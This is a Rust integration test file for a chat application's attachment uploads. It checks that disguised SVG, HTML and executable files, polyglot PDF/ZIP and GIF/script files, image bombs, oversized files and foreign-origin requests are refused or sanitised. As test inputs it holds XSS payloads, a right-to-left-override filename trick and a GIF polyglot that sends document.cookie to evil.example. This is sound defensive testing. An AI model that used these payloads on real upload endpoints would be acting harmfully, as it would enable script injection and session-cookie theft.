//! DK13: what is not taken, one by one: each is refused in a word and leaves nothing behind, neither on disk nor in
//! the store. What is a picture and something else as well becomes the picture alone.

use std::path::PathBuf;

use image::ImageFormat;
use reqwest::Method;
use robot::{Agent, Customer};
use serde_json::json;
use uuid::Uuid;
use wire::command::{MemberCommand, SendMessage};
use wire::widget::{CustomerCommand, Say};

use crate::browser::code;
use crate::chat::online;
use crate::demo::{Demo, SOON};
use crate::papers::{PDF, PLACE, bomb, holds, moving, photograph, picture};
use crate::sender::{Sender, answer, files_on_disk, said, sha256, start, text};

const SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
const HTML: &[u8] = b"<!doctype html><html><script>alert(1)</script></html>";

/// Ann tries to send each of them by its name.
async fn are_refused(papers: &[(&str, &[u8], &str)]) {
    let demo = Demo::start().await;
    let ann = Agent::sign_in(&demo.guide, demo.ann()).await.unwrap();
    let ann = Sender::member(&demo, &ann);
    for (name, bytes, why) in papers {
        let refused = ann.upload(name, bytes).await;
        assert_eq!(code(&refused), (422, *why), "{name}: {}", refused.1);
    }
    leave_nothing(&demo).await;
}

async fn leave_nothing(demo: &Demo) {
    assert_eq!(files_on_disk(demo), Vec::<PathBuf>::new());
    assert_eq!(demo.read_sql("SELECT name FROM attachment").await, Vec::<String>::new());
}

/// As it is kept, once Ann has uploaded it.
async fn kept(name: &str, bytes: &[u8]) -> Vec<u8> {
    let demo = Demo::start().await;
    let ann = Agent::sign_in(&demo.guide, demo.ann()).await.unwrap();
    let id = Sender::member(&demo, &ann).whole(name, bytes).await;
    std::fs::read(demo.data.join(format!("attachments/{id}"))).unwrap()
}

#[tokio::test]
async fn dk13_an_svg_is_not_taken_under_any_name() {
    are_refused(&[
        ("cat.svg", SVG, "attachment-kind"),
        ("cat.png.SVG", SVG, "attachment-kind"),
        ("cat.svgz", SVG, "attachment-kind"),
        ("cat.xml", SVG, "attachment-kind"),
        ("cat.png", SVG, "attachment-mismatch"),
        ("cat.webp", SVG, "attachment-mismatch"),
        ("cat.txt", SVG, "attachment-unsafe"),
        ("cat.csv", &[b"\xef\xbb\xbf \n".as_slice(), SVG].concat(), "attachment-unsafe"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_a_page_is_not_taken_under_any_name() {
    are_refused(&[
        ("cat.html", HTML, "attachment-kind"),
        ("cat.htm", HTML, "attachment-kind"),
        ("cat.xhtml", HTML, "attachment-kind"),
        ("cat.txt", HTML, "attachment-unsafe"),
        ("cat.csv", HTML, "attachment-unsafe"),
        ("cat.pdf", HTML, "attachment-mismatch"),
        ("cat.jpg", HTML, "attachment-mismatch"),
        ("cat.docx", HTML, "attachment-mismatch"),
        ("cat.mp3", HTML, "attachment-mismatch"),
        ("cat.mp4", HTML, "attachment-mismatch"),
        ("cat.pdf", &[PDF, HTML].concat(), "attachment-unsafe"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_a_program_is_not_taken_under_any_name() {
    are_refused(&[
        ("cat.js", b"alert(1)", "attachment-kind"),
        ("cat.exe", b"MZ", "attachment-kind"),
        ("cat.png.exe", b"MZ", "attachment-kind"),
        ("cat.pdf.js", b"alert(1)", "attachment-kind"),
        ("cat", b"MZ", "attachment-kind"),
        ("cat.png\u{202e}", b"MZ", "attachment-mismatch"),
        ("cat.csv", b"MZ\0\x01", "attachment-mismatch"),
        ("cat.pdf", b"\x7fELF", "attachment-mismatch"),
        ("cat.wav", b"MZ", "attachment-mismatch"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_a_name_that_says_another_kind_is_refused() {
    are_refused(&[
        ("cat.gif", &picture(ImageFormat::Png), "attachment-mismatch"),
        ("cat.png", &picture(ImageFormat::Jpeg), "attachment-mismatch"),
        ("cat.jpg", &picture(ImageFormat::WebP), "attachment-mismatch"),
        ("cat.webp", &picture(ImageFormat::Gif), "attachment-mismatch"),
        ("cat.docx", PDF, "attachment-mismatch"),
        ("cat.xlsx", b"PK\x03\x04", "attachment-mismatch"),
        ("cat.pdf", &picture(ImageFormat::Png), "attachment-mismatch"),
        ("cat.m4a", PDF, "attachment-mismatch"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_a_pdf_that_is_an_archive_as_well_is_refused() {
    let entry = [b"%PDF-1.7\nPK\x03\x04".as_slice(), &[0; 26], b"PK\x01\x02", &[0; 42]].concat();
    let end = [b"PK\x05\x06".as_slice(), &[0; 18]].concat();
    are_refused(&[
        ("cat.pdf", &[&entry[..], &end, b"\n%%EOF\n"].concat(), "attachment-unsafe"),
        ("cat.pdf", &[PDF, &entry, &end].concat(), "attachment-unsafe"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_a_gif_that_is_a_script_as_well_becomes_a_gif() {
    let mut script = moving(3);
    // Behind the head a comment that is one to both, and behind the end what a script would do then.
    let head = script.windows(2).position(|window| window == b"\x21\xf9").unwrap();
    script.splice(head..head, *b"\x21\xfe\x10*/=1;alert(1);/*\0");
    script.extend(b"*/;fetch('//evil.example/'+document.cookie)//");
    let gif = kept("cat.gif", &script).await;
    assert!(gif.starts_with(b"GIF89a") && gif.ends_with(b"\x3b"));
    assert!(!holds(&gif, b"alert") && !holds(&gif, b"cookie"));
}

#[tokio::test]
async fn dk13_a_photograph_keeps_how_it_stands_and_not_where_it_was_taken() {
    assert!(holds(&photograph(), PLACE) && holds(&photograph(), b"Exif"));
    let kept = kept("cat.jpg", &photograph()).await;
    assert!(!holds(&kept, PLACE) && !holds(&kept, b"Exif") && !holds(&kept, b"script"));
    let picture = image::load_from_memory(&kept).unwrap();
    assert_eq!((picture.width(), picture.height()), (16, 24), "it lay on its side");
}

#[tokio::test]
async fn dk13_a_picture_of_41_million_pixels_is_known_by_its_head() {
    are_refused(&[("cat.png", &bomb(), "attachment-too-many-pixels")]).await;
}

#[tokio::test]
async fn dk13_a_gif_of_201_frames_is_refused() {
    are_refused(&[("cat.gif", &moving(201), "attachment-too-many-frames")]).await;
}

#[tokio::test]
async fn dk13_a_picture_that_ends_in_the_middle_is_refused() {
    let half = |format| {
        let whole = picture(format);
        whole[..whole.len() / 2].to_vec()
    };
    are_refused(&[
        ("cat.png", &half(ImageFormat::Png), "attachment-unreadable"),
        ("cat.gif", &half(ImageFormat::Gif), "attachment-unreadable"),
        ("cat.webp", &half(ImageFormat::WebP), "attachment-unreadable"),
    ])
    .await;
}

#[tokio::test]
async fn dk13_what_came_otherwise_than_it_was_announced_is_refused() {
    let demo = Demo::start().await;
    let ann = Agent::sign_in(&demo.guide, demo.ann()).await.unwrap();
    let ann = Sender::member(&demo, &ann);
    for (bytes, expected) in
        [(b"abd".as_slice(), (422, "attachment-damaged")), (b"abcd", (413, "attachment-too-large"))]
    {
        let (_, announced) = ann.announce("a.txt", 3, &sha256(b"abc")).await;
        assert_eq!(code(&ann.put(&text(&announced["id"]), 0, bytes).await), expected);
    }
    assert_eq!(code(&ann.announce("a.txt", 3, "abc").await), (400, "bad-request"));
    assert_eq!(code(&ann.upload("a.txt", b"").await), (422, "attachment-empty"));
    leave_nothing(&demo).await;
}

#[tokio::test]
async fn dk13_a_file_over_the_limit_is_refused_before_it_comes() {
    const MIB: usize = 1024 * 1024;
    let demo = Demo::start().await;
    let ann = Agent::sign_in(&demo.guide, demo.ann()).await.unwrap();
    let mia = Customer::arrive(&demo.guide).await.unwrap();
    let (by_ann, by_mia) = (Sender::member(&demo, &ann), Sender::customer(&demo, &mia));
    for (by, most) in [(&by_ann, 50 * MIB), (&by_mia, 20 * MIB)] {
        let over = by.announce("film.mp4", most + 1, &sha256(b"")).await;
        assert_eq!(code(&over), (413, "attachment-too-large"));
    }
    leave_nothing(&demo).await;
    for (by, most) in [(&by_ann, 50 * MIB), (&by_mia, 20 * MIB)] {
        let (status, most) = by.announce("film.mp4", most, &sha256(b"")).await;
        assert_eq!(status, 201, "{most}");
    }
}

#[tokio::test]
async fn op06_a_customer_sends_five_files_in_a_minute() {
    let demo = Demo::start().await;
    let mia = Customer::arrive(&demo.guide).await.unwrap();
    let zoe = Customer::arrive(&demo.guide).await.unwrap();
    let (by_mia, by_zoe) = (Sender::customer(&demo, &mia), Sender::customer(&demo, &zoe));
    for name in ["a.txt", "b.txt", "c.txt", "d.txt", "e.txt"] {
        by_mia.whole(name, b"text").await;
    }
    let sixth = by_mia.request(Method::POST, "");
    let sixth = sixth.json(&json!({ "name": "f.txt", "size": 1, "sha256": sha256(b"f") }));
    let sixth = sixth.send().await.unwrap();
    assert_eq!(sixth.status(), 429);
    let wait: u64 = sixth.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait} s");
    by_zoe.whole("a.txt", b"text").await;
}

#[tokio::test]
async fn dk13_a_message_carries_ten_files_and_no_eleventh() {
    let demo = Demo::start().await;
    let ann = online(&demo.guide, demo.ann()).await;
    let by_ann = Sender::member(&demo, &ann);
    let mut mia = Customer::arrive(&demo.guide).await.unwrap();
    let contact = mia.start("Hello").await.unwrap();
    let mut files = Vec::new();
    for number in 1..=11 {
        files.push(by_ann.whole(&format!("{number}.txt"), b"text").await);
    }
    let with = |files: &[Uuid]| {
        let (message, text, files) = (Uuid::now_v7(), "Look".to_owned(), files.to_vec());
        MemberCommand::SendMessage(SendMessage { contact, message, text, files })
    };
    let refused = ann.command(with(&files)).await.unwrap();
    assert_eq!(said(&refused), Some((400, "too-many-files")));
    ann.obeyed(with(&files[..10])).await.unwrap();
    let seen = mia.until(SOON, "the files", |seen| seen.messages.len() == 2).await.unwrap();
    let names: Vec<_> = seen.messages[&2].files.iter().map(|file| file.name.clone()).collect();
    assert_eq!(names, (1..=10).map(|number| format!("{number}.txt")).collect::<Vec<_>>());
}

#[tokio::test]
async fn dk13_the_file_of_another_is_not_there() {
    let demo = Demo::start().await;
    let ann = online(&demo.guide, demo.ann()).await;
    let leo = Agent::sign_in(&demo.guide, demo.leo()).await.unwrap();
    let mut mia = Customer::arrive(&demo.guide).await.unwrap();
    let mut zoe = Customer::arrive(&demo.guide).await.unwrap();
    let by_mia = Sender::customer(&demo, &mia);
    let whole = by_mia.whole("a.pdf", PDF).await;
    let (_, half) = by_mia.announce("b.txt", 4, &sha256(b"half")).await;
    let half = text(&half["id"]);
    by_mia.put(&half, 0, b"ha").await;
    let contact = zoe.start("Hello").await.unwrap();

    let by_zoe = Sender::customer(&demo, &zoe);
    let by_ann = Sender::member(&demo, &ann);
    for other in [&by_zoe, &by_ann, &Sender::member(&demo, &leo)] {
        other.is_denied(whole).await;
        for id in [whole.to_string(), half.clone(), Uuid::now_v7().to_string(), "1".to_owned()] {
            assert_eq!(code(&other.state(&id).await), (404, "not-found"), "{id}");
            assert_eq!(code(&other.put(&id, 2, b"lf").await), (404, "not-found"), "{id}");
        }
    }
    let unknown = Some((404, "attachment-unknown"));
    let say = Say { message: Uuid::now_v7(), text: String::new(), files: vec![whole] };
    let refused = zoe.ask(CustomerCommand::Say(say)).await.unwrap();
    assert_eq!(said(&refused), unknown);
    let (message, text, files) = (Uuid::now_v7(), String::new(), vec![whole]);
    let send = MemberCommand::SendMessage(SendMessage { contact, message, text, files });
    assert_eq!(said(&ann.command(send).await.unwrap()), unknown);
    start(&mut mia, whole).await;
    by_zoe.is_denied(whole).await;
    Sender::member(&demo, &leo).is_denied(whole).await;
}

#[tokio::test]
async fn dk13_no_page_of_another_site_sends_or_fetches_a_file() {
    let demo = Demo::start().await;
    let mut mia = Customer::arrive(&demo.guide).await.unwrap();
    let by_mia = Sender::customer(&demo, &mia);
    let file = by_mia.whole("a.pdf", PDF).await;
    start(&mut mia, file).await;
    let form = json!({ "name": "b.txt", "size": 1, "sha256": sha256(b"b") });
    let from_elsewhere = [
        by_mia.request(Method::POST, "").json(&form),
        by_mia.request(Method::GET, &format!("/{file}")),
        by_mia.request(Method::GET, &format!("/{file}/upload")),
        by_mia.request(Method::PUT, &format!("/{file}/upload?offset=0")).body("x"),
    ];
    for request in from_elsewhere {
        let answer = answer(request.header("origin", "https://evil.example")).await;
        assert_eq!(code(&answer), (403, "foreign-origin"));
    }
    let nobody = Sender { header: ("x-nobody", String::new()), ..by_mia };
    assert_eq!(nobody.fetch(file).await.status(), 401);
}
